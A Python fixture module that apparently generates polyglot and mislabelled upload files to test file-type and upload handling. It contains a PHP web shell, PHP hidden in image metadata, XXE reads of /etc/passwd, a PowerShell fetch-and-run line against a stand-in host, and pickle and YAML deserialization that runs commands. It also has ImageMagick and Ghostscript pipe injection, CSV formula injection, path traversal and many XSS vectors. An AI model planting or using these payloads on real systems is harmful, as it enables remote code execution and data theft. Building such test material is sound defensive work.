"""Files that are two things at once, or claim to be what they aren't: what browsers and servers were made to run."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image

SCRIPT = b"<script>parent.document.title='run'</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
GIF = b"GIF89a" + bytes.fromhex("01000100800000000000ffffff2c00000000010001000002024401003b")
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF\n"


def png(comment: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    body = chunk(b"IHDR", header) + chunk(b"tEXt", b"c\x00" + comment) + chunk(b"IDAT", zlib.compress(b"\0\0\0\0"))
    return b"\x89PNG\r\n\x1a\n" + body + chunk(b"IEND", b"")


def zipped(**members: bytes) -> bytes:
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w") as archive:
        for name, content in members.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return whole.getvalue()


POLYGLOTS: dict[str, tuple[bytes, str]] = {
    "page.html": (b"<!DOCTYPE html><html>" + SCRIPT + b"</html>", "text/html"),
    "page.htm": (b"<HTML><BODY onload=alert(1)>", "text/html"),
    "fragment.html": (SCRIPT, "text/html"),
    "blank first.html": (b" " * 600 + SCRIPT, "text/html"),
    "bom.html": (b"\xef\xbb\xbf<html>" + SCRIPT, "text/html"),
    "utf16.html": ("\ufeff<html><script>alert(1)</script>".encode("utf-16-le"), "text/html"),
    "utf7.html": (b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/html; charset=utf-7"),
    "claims a picture.html": (SCRIPT, "image/png"),
    "picture.svg": (SVG, "image/svg+xml"),
    "prolog.svg": (b'<?xml version="1.0"?>' + SVG, "image/svg+xml"),
    "comment first.svg": (b"<!-- x -->" + SVG, "image/svg+xml"),
    "packed.svgz": (zlib.compress(SVG, wbits=31), "image/svg+xml"),
    "doc.xml": (b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">a()</x:script>', "text/xml"),
    "doc.xhtml": (b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">', "application/xhtml+xml"),
    "entities.xml": (b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "application/xml"),
    "sheet.xsl": (b'<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/>', "text/xsl"),
    "formula.mathml": (b'<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">', "text/mathml"),
    "shell.php": (b"<?php system($_GET['c']); ?>", "application/x-php"),
    "short.phtml": (b"<?= `id` ?>", "text/plain"),
    "archive.phar": (b"<?php __HALT_COMPILER(); ?>\r\n" + b"\0" * 40 + b"GBMB", "application/octet-stream"),
    "picture.php.png": (png(b"<?php system('id'); ?>"), "image/png"),
    ".htaccess": (b"AddType application/x-httpd-php .png", "text/plain"),
    "code.js": (b"alert(document.domain)", "application/javascript"),
    "module.mjs": (b"export default alert(1)", "text/javascript"),
    "worker.wasm": (b"\x00asm\x01\x00\x00\x00", "application/wasm"),
    "style.css": (b"*{background:url(//evil/)}", "text/css"),
    "both.gif": (GIF[:6] + b"/*" + GIF[6:] + b"*/=1;alert(1)//", "image/gif"),
    "text after.gif": (GIF + SCRIPT, "image/gif"),
    "comment.jpg": (JPEG + b"\xff\xfe\x00\x40" + SCRIPT + b"\xff\xd9", "image/jpeg"),
    "comment.png": (png(SCRIPT), "image/png"),
    "bitmap.bmp": (b"BM=1;alert(1)//" + b"\0" * 40, "image/bmp"),
    "icon.ico": (b"\x00\x00\x01\x00\x01\x00" + SCRIPT, "image/x-icon"),
    "paper.pdf": (PDF, "application/pdf"),
    "page and paper.pdf": (PDF + SCRIPT, "text/html"),
    "late.pdf": (SCRIPT + PDF, "application/pdf"),
    "plain.zip": (zipped(a_dot_html=SCRIPT), "application/zip"),
    "page before.zip": (SCRIPT + zipped(a=b"x"), "application/zip"),
    "java.jar": (zipped(**{"META-INF__MANIFEST_dot_MF": b"Main-Class: X"}), "application/java-archive"),
    "macro.docm": (zipped(**{"word__vbaProject_dot_bin": b"\xd0\xcf\x11\xe0"}), "application/msword"),
    "mail.eml": (b"Content-Type: text/html\r\n\r\n" + SCRIPT, "message/rfc822"),
    "web.mhtml": (b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + SCRIPT, "multipart/related"),
    "flash.swf": (b"FWS\x06\x00\x00\x00", "application/x-shockwave-flash"),
    "link.url": (b"[InternetShortcut]\r\nURL=javascript:alert(1)", "text/plain"),
    "app.hta": (b"<hta:application><script>new ActiveXObject('WScript.Shell')</script>", "application/hta"),
    "card.vcf": (b"BEGIN:VCARD\r\nPHOTO;VALUE=uri:javascript:alert(1)\r\nEND:VCARD", "text/vcard"),
    "programme.exe": (b"MZ\x90\x00\x03", "image/png"),
}


def real(form: str, **more: object) -> bytes:
    """A picture that any browser shows."""
    out = io.BytesIO()
    Image.new("RGB", (2, 2), "red").save(out, form, **more)
    return out.getvalue()


MOD = b"<?php system($_GET['c']); ?>"
RAN = b"alert(document.domain)"
MORE: dict[str, tuple[bytes, str]] = {
    "real after.png": (real("PNG") + SCRIPT, "image/png"),
    "real after.jpg": (real("JPEG") + SCRIPT, "image/jpeg"),
    "real after.gif": (real("GIF") + SCRIPT, "image/gif"),
    "real after.webp": (real("WEBP") + SCRIPT, "image/webp"),
    "comment real.jpg": (real("JPEG", comment=SCRIPT), "image/jpeg"),
    "comment real.gif": (real("GIF", comment=SCRIPT), "image/gif"),
    "exif.jpg": (real("JPEG", exif=b"Exif\x00\x00" + MOD), "image/jpeg"),
    "php in profile.jpg": (real("JPEG", icc_profile=MOD * 9), "image/jpeg"),
    "real.jpg.php": (real("JPEG", comment=MOD), "application/x-php"),
    "real.png.html": (real("PNG") + SCRIPT, "text/html"),
    "real.gif.svg": (real("GIF") + SVG, "image/svg+xml"),
    "zip after.png": (real("PNG") + zipped(a_dot_html=SCRIPT), "image/png"),
    "zip after.jpg": (real("JPEG") + zipped(a_dot_php=MOD), "application/zip"),
    "pdf after.png": (real("PNG") + PDF, "application/pdf"),
    "js in header.gif": (b"GIF89a=1;" + RAN + b"//" + b"\0" * 20, "application/javascript"),
    "js in header.webp": (b"RIFF=1/*WEBP*/;" + RAN, "image/webp"),
    "js in header.jpg": (b"\xff\xd8\xff\xe0/*" + real("JPEG")[6:] + b"*/=1;" + RAN, "image/jpeg"),
    "bomb.png": (png()[:16] + struct.pack(">II", 60_000, 60_000) + png()[24:], "image/png"),
    "tiff.tif": (b"II*\x00" + SCRIPT, "image/tiff"),
    "heic.heic": (b"\0\0\0\x18ftypheic" + SCRIPT, "image/heic"),
    "avif.avif": (b"\0\0\0\x18ftypavif" + SCRIPT, "image/avif"),
    "jxl.jxl": (b"\xff\x0a" + SCRIPT, "image/jxl"),
    "vector.eps": (b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file\n", "application/postscript"),
    "ghost.ps": (b"%!PS\n/OutputFile (%pipe%id) def\n", "application/postscript"),
    "magick.mvg": (b"push graphic-context\nimage over 0,0 0,0 'https://x/|id'\npop", "image/x-mvg"),
    "magick.msl": (b'<?xml version="1.0"?><image><read filename="/etc/passwd"/></image>', "text/xml"),
    "pixmap.xpm": (b'/* XPM */\nstatic char * x[] = {"1 1 1 1"};' + SCRIPT, "image/x-xpixmap"),
    "utf16be.html": ("\ufeff<script>a()</script>".encode("utf-16-be"), "text/html"),
    "utf32.html": ("<script>a()</script>".encode("utf-32"), "text/html"),
    "iso2022.html": (b"\x1b$B\x1b(J<script>a()</script>", "text/html; charset=iso-2022-jp"),
    "gbk.html": ("<p>\u5ba2</p>".encode("gb18030") + SCRIPT, "text/html; charset=gbk"),
    "nul first.html": (b"\0" + SCRIPT, "text/html"),
    "form feed.html": (b"\x0c" + SCRIPT, "text/html"),
    "late.html": (b"a" * 9_000 + SCRIPT, "text/html"),
    "base.html": (b"<base href=//evil/>", "text/html"),
    "meta.html": (b'<meta http-equiv="refresh" content="0;javascript:a()">', "text/html"),
    "object.html": (b'<object data="javascript:a()">', "text/html"),
    "embed.html": (b'<embed src="javascript:a()">', "text/html"),
    "custom.html": (b"<x onfocus=a() tabindex=1 autofocus>", "text/html"),
    "style.html": (b"<style>@import'//evil'</style>", "text/html"),
    "use.svg": (b'<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml,x#y"/></svg>', "image/svg+xml"),
    "foreign.svg": (b"<svg><foreignObject><iframe src=javascript:a()></foreignObject></svg>", "image/svg+xml"),
    "entity.svg": (b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>', "image/svg+xml"),
    "laughs.svg": (b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><svg>&b;</svg>', "image/svg+xml"),
    "claims a picture.svg": (SVG, "image/png"),
    "claims a text.svg": (SVG, "text/plain"),
    "feed.rss": (b'<?xml version="1.0"?><rss><item><description>&lt;script&gt;</description></item></rss>', "text/xml"),
    "sheet.csv": (b"name\r\n=cmd|' /C calc'!A0\r\n" + SCRIPT, "text/csv"),
    "book.xlsm": (zipped(**{"xl__vbaProject_dot_bin": b"\xd0\xcf\x11\xe0"}), "application/vnd.ms-excel"),
    "link.xlsx": (zipped(**{"xl__externalLinks__externalLink1_dot_xml": b"<x/>"}), "application/vnd.ms-excel"),
    "old.xls": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + SCRIPT, "application/vnd.ms-excel"),
    "object.rtf": (b"{\\rtf1{\\object\\objocx{\\*\\objdata 01}}}", "application/rtf"),
    "short cut.lnk": (b"L\0\0\0\x01\x14\x02\0", "application/octet-stream"),
    "desktop.desktop": (b"[Desktop Entry]\nExec=id\n", "text/plain"),
    "shell.sh": (b"#!/bin/sh\nid\n", "application/x-sh"),
    "power.ps1": (b"iex (iwr http://x)", "text/plain"),
    "batch.bat": (b"@echo off\r\ncalc", "text/plain"),
    "script.vbs": (b'CreateObject("WScript.Shell").Run "calc"', "text/vbscript"),
    "windows.wsf": (b"<job><script>a()</script></job>", "text/xml"),
    "help.chm": (b"ITSF\x03\0\0\0", "application/x-chm"),
    "page.jsp": (b"<%= Runtime.getRuntime() %>", "text/plain"),
    "page.aspx": (b'<%@ Page Language="C#" %>', "text/plain"),
    "page.shtml": (b'<!--#exec cmd="id" -->', "text/html"),
    "code.py": (b"import os\nos.system('id')\n", "text/x-python"),
    "frozen.pyc": (b"\xa7\x0d\x0d\x0a" + b"\0" * 12, "application/octet-stream"),
    "pickled.pkl": (b"cos\nsystem\n(S'id'\ntR.", "application/octet-stream"),
    "config.yaml": (b"!!python/object/apply:os.system ['id']", "text/yaml"),
    "user.ini": (b"auto_prepend_file=x.png", "text/plain"),
    "web.config": (b"<configuration><system.webServer/></configuration>", "text/xml"),
    "cross.crossdomain.xml": (
        b'<cross-domain-policy><allow-access-from domain="*"/></cross-domain-policy>',
        "text/xml",
    ),
    "manifest.appcache": (b"CACHE MANIFEST\n/", "text/cache-manifest"),
    "signed.p7m": (b"-----BEGIN PKCS7-----\n" + SCRIPT, "application/pkcs7-mime"),
    "movie.mp4": (b"\0\0\0\x18ftypmp42" + SCRIPT, "text/html"),
    "sound.mp3": (b"ID3\x03\0\0\0\0\0\0" + SCRIPT, "text/html"),
    "film.webm": (b"\x1a\x45\xdf\xa3" + SCRIPT, "text/html"),
    "list.m3u8": (b"#EXTM3U\nfile:///etc/passwd", "application/vnd.apple.mpegurl"),
    "font.woff": (b"wOFF" + SCRIPT, "font/woff"),
    "packed.gz": (zlib.compress(SCRIPT, wbits=31), "text/html"),
    "tape.tar": (b"../../evil.html" + b"\0" * 500 + SCRIPT, "application/x-tar"),
    "disk.iso": (b"\0" * 4_000 + b"CD001" + SCRIPT, "application/x-iso9660-image"),
}
"""Those of the second wave: real pictures with more in them, other encodings, files that other programs run."""
POLYGLOTS |= MORE
PICTURES = {
    name
    for name in POLYGLOTS
    if name.startswith(("real ", "real.", "comment real", "exif", "php in", "zip after", "pdf after"))
}
"""Those that any browser shows."""
